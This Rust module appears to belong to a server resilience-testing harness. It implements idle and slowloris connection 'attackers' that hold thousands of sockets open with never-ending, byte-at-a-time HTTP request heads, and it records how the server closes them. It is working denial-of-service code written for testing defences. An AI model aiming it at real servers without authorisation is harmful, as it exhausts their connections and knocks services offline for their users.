//! The attackers: sockets that take a place on the server and never finish a request.
//!
//! Each connects, then either waits (idle) or writes a request head a byte at a time
//! (slowloris) — `GET /api/poll HTTP/1.1`, `Host`, then `X-Slow: 1` header lines for ever,
//! never the blank line that ends a head. All the while it reads, so it sees the moment
//! the server closes it (end of stream, or a reset when the server closed with our
//! bytes unread). The [`Ledger`] keeps, per socket, how long it was open and whether
//! the server closed it or it was still open when the hold ended.

use std::collections::BTreeMap;
use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::sync::atomic::AtomicU64;
use std::sync::atomic::Ordering::Relaxed;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::time::{Instant, MissedTickBehavior};
use tokio_util::task::TaskTracker;

use super::Mode;
use crate::net::{CONNECT_TIMEOUT, SOURCE_ADDRS};

/// What an attacker reads into: it only needs to see the server's end (or a 4xx).
const READ_BYTES: usize = 64;

/// Where and how the attackers connect, and when they stop.
#[derive(Debug, Clone)]
pub struct Plan {
    pub addr: SocketAddr,
    /// The `Host` a slowloris head names.
    pub authority: String,
    pub mode: Mode,
    /// Slowloris: the time between two bytes.
    pub trickle: Option<Duration>,
    /// Connects started per second, evenly spread.
    pub open_rate: u32,
    /// The first connect; times in the ledger are from here.
    pub start: Instant,
    /// Every socket still open is dropped here.
    pub deadline: Instant,
}

/// One socket's end.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct Close {
    /// From its connect to its end, µs.
    pub lifetime_us: u64,
    /// When it ended, µs after the plan's start.
    pub at_us: u64,
    /// The server closed it (`false`: it was still open at the deadline).
    pub by_server: bool,
}

/// What the attackers did, as they did it.
#[derive(Debug, Default)]
pub struct Ledger {
    /// Our sockets open now, and the most at once.
    open: AtomicU64,
    peak_open: AtomicU64,
    opened: AtomicU64,
    /// When the last socket finished connecting, µs after the start.
    last_opened_us: AtomicU64,
    closes: Mutex<Vec<Close>>,
    /// Connects that failed, by error.
    connect_failed: Mutex<BTreeMap<String, u64>>,
}

impl Ledger {
    pub fn open_now(&self) -> u64 {
        self.open.load(Relaxed)
    }

    pub fn peak_open(&self) -> u64 {
        self.peak_open.load(Relaxed)
    }

    pub fn opened(&self) -> u64 {
        self.opened.load(Relaxed)
    }

    pub fn last_opened_us(&self) -> Option<u64> {
        (self.opened() > 0).then(|| self.last_opened_us.load(Relaxed))
    }

    pub fn closes(&self) -> Vec<Close> {
        self.closes.lock().expect("closes poisoned").clone()
    }

    pub fn connect_failed(&self) -> BTreeMap<String, u64> {
        self.connect_failed.lock().expect("errors poisoned").clone()
    }

    fn connected(&self, at_us: u64) {
        self.opened.fetch_add(1, Relaxed);
        self.last_opened_us.fetch_max(at_us, Relaxed);
        let now = self.open.fetch_add(1, Relaxed) + 1;
        self.peak_open.fetch_max(now, Relaxed);
    }

    fn ended(&self, close: Close) {
        self.open.fetch_sub(1, Relaxed);
        self.closes.lock().expect("closes poisoned").push(close);
    }

    fn failed(&self, error: &std::io::Error) {
        *self.connect_failed.lock().expect("errors poisoned").entry(error.to_string()).or_default() += 1;
    }
}

/// Opens `sockets` attackers as `plan` says and returns once every one has ended: closed
/// by the server, or dropped at the deadline.
///
/// Connects start on a schedule, `open_rate` a second, each in a task of its own. Not
/// "N in flight": the server listens with a backlog of 128 (tokio's `TcpListener::bind`),
/// and a connect that finds its accept queue full is retried by its SYN 1 s (then 3 s)
/// later; under an in-flight bound those stalled connects held the places, and opening
/// 19,000 took 10 s instead of 4. A schedule also keeps bursts small enough that a
/// server that is keeping up never has a full queue.
pub async fn hold_all(plan: Plan, sockets: usize, ledger: Arc<Ledger>) {
    let plan = Arc::new(plan);
    let tracker = TaskTracker::new();
    let gap = Duration::from_secs(1) / plan.open_rate.max(1);
    for i in 0..sockets {
        let due = plan.start + gap * i as u32;
        if due >= plan.deadline {
            break;
        }
        tokio::time::sleep_until(due).await;
        let (plan, ledger) = (plan.clone(), ledger.clone());
        tracker.spawn(async move { hold_one(i, &plan, &ledger).await });
    }
    tracker.close();
    tracker.wait().await;
}

/// Attacker number `i`: connect, then hold until the server closes the socket or the
/// deadline.
async fn hold_one(i: usize, plan: &Plan, ledger: &Ledger) {
    let connected = tokio::select! {
        connected = connect(plan.addr, i) => connected,
        // Still connecting at the deadline: never opened, nothing to record.
        () = tokio::time::sleep_until(plan.deadline) => return,
    };
    let stream = match connected {
        Ok(stream) => stream,
        Err(e) => return ledger.failed(&e),
    };
    let opened = Instant::now();
    ledger.connected(micros(opened - plan.start));
    let by_server = tokio::select! {
        () = until_closed(stream, plan) => true,
        () = tokio::time::sleep_until(plan.deadline) => false,
    };
    let now = Instant::now();
    ledger.ended(Close { lifetime_us: micros(now - opened), at_us: micros(now - plan.start), by_server });
}

/// A TCP socket from one of the loopback source addresses, as `net::Target::connect`
/// spreads its clients (each address has its own ephemeral ports), but not counted:
/// an attacker moves no bytes worth measuring.
async fn connect(addr: SocketAddr, i: usize) -> std::io::Result<TcpStream> {
    let socket = match addr.ip() {
        IpAddr::V4(ip) if ip.is_loopback() => {
            let socket = TcpSocket::new_v4()?;
            let last = 1 + (i % usize::from(SOURCE_ADDRS)) as u8;
            socket.bind(SocketAddr::new(Ipv4Addr::new(127, 0, 0, last).into(), 0))?;
            socket
        }
        IpAddr::V4(_) => TcpSocket::new_v4()?,
        IpAddr::V6(_) => TcpSocket::new_v6()?,
    };
    tokio::time::timeout(CONNECT_TIMEOUT, socket.connect(addr))
        .await
        .map_err(|_| std::io::Error::new(std::io::ErrorKind::TimedOut, "connect timed out"))?
}

/// Returns when the server has closed `stream`: its end of stream, a reset, or a
/// write refused (slowloris).
async fn until_closed(stream: TcpStream, plan: &Plan) {
    let (mut reader, mut writer) = stream.into_split();
    let mut buf = [0u8; READ_BYTES];
    let Some(trickle) = plan.trickle.filter(|_| plan.mode == Mode::Slowloris) else {
        // Idle: only the server's end can come; anything it sends (a 408, say) is read past.
        while matches!(reader.read(&mut buf).await, Ok(n) if n > 0) {}
        return;
    };
    let head = SlowHead::new(&plan.authority);
    // The first byte at once (the server's clock then runs from the accept either way).
    let mut tick = tokio::time::interval(trickle);
    tick.set_missed_tick_behavior(MissedTickBehavior::Delay);
    let mut sent = 0;
    loop {
        tokio::select! {
            read = reader.read(&mut buf) => {
                if !matches!(read, Ok(n) if n > 0) {
                    return;
                }
            }
            _ = tick.tick() => {
                if writer.write_all(&[head.byte(sent)]).await.is_err() {
                    return;
                }
                sent += 1;
            }
        }
    }
}

/// A request head that never ends: a request line and `Host`, then header lines for ever.
#[derive(Debug)]
pub struct SlowHead {
    start: Vec<u8>,
}

/// What follows the start, again and again: a header line, never the empty one.
const SLOW_LINE: &[u8] = b"X-Slow: 1\r\n";

impl SlowHead {
    pub fn new(authority: &str) -> Self {
        SlowHead { start: format!("GET /api/poll HTTP/1.1\r\nHost: {authority}\r\n").into_bytes() }
    }

    /// The `n`th byte of the head.
    pub fn byte(&self, n: usize) -> u8 {
        match self.start.get(n) {
            Some(&b) => b,
            None => SLOW_LINE[(n - self.start.len()) % SLOW_LINE.len()],
        }
    }
}

fn micros(d: Duration) -> u64 {
    d.as_micros() as u64
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_slow_head_never_ends() {
        let head = SlowHead::new("127.0.0.1:9");
        let bytes: Vec<u8> = (0..200).map(|n| head.byte(n)).collect();
        let text = String::from_utf8(bytes).unwrap();
        assert!(
            text.starts_with("GET /api/poll HTTP/1.1\r\nHost: 127.0.0.1:9\r\nX-Slow: 1\r\nX-Slow: 1\r\n")
        );
        assert!(!text.contains("\r\n\r\n"), "no blank line: {text:?}");
    }

    /// A socket the server closes is recorded as closed by it, one still open at the
    /// deadline as not, each with its lifetime.
    #[tokio::test]
    async fn the_ledger_tells_closed_from_held() {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();
        let server = tokio::spawn(async move {
            let (first, _) = listener.accept().await.unwrap();
            let (second, _) = listener.accept().await.unwrap();
            tokio::time::sleep(Duration::from_millis(200)).await;
            drop(first);
            second
        });
        let start = Instant::now();
        let plan = Plan {
            addr,
            authority: addr.to_string(),
            mode: Mode::Idle,
            trickle: None,
            open_rate: 1000,
            start,
            deadline: start + Duration::from_millis(600),
        };
        let ledger = Arc::new(Ledger::default());
        hold_all(plan, 2, ledger.clone()).await;
        let _second = server.await.unwrap();
        let mut closes = ledger.closes();
        closes.sort_by_key(|c| c.lifetime_us);
        assert_eq!((ledger.opened(), ledger.peak_open(), ledger.open_now()), (2, 2, 0));
        assert_eq!(closes.iter().map(|c| c.by_server).collect::<Vec<_>>(), [true, false]);
        assert!((150_000..550_000).contains(&closes[0].lifetime_us), "{closes:?}");
        assert!(closes[1].at_us >= 600_000, "{closes:?}");
        assert!(ledger.connect_failed().is_empty());
    }
}
